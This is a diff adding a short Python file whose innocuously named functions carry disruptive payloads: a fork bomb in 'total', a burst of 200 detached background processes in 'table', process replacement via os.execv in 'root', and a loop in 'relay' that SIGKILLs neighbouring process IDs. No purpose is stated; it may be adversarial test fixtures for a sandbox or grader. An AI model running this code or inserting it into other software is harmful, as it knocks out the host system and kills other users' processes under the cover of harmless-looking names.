@@ -1,0 +1,45 @@
+import os
+import subprocess
+import sys
+import time
+
+
+def shown(x):
+    time.sleep(0.3)
+    print(open("kept").read() if os.path.exists("kept") else "nothing")
+    return 0.0
+
+
+def total(x):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            time.sleep(0.01)
+
+
+def table(x):
+    for _ in range(200):
+        try:
+            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"], start_new_session=True)
+        except OSError:
+            break
+    return {}
+
+
+def root(f, x):
+    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)"])
+
+
+def relay(x):
+    for pid in range(max(2, os.getpid() - 40), os.getpid() + 40):
+        if pid != os.getpid():
+            try:
+                os.kill(pid, 9)
+            except OSError:
+                continue
+    return float(x[0])
+
+
+def back(value):
+    return value
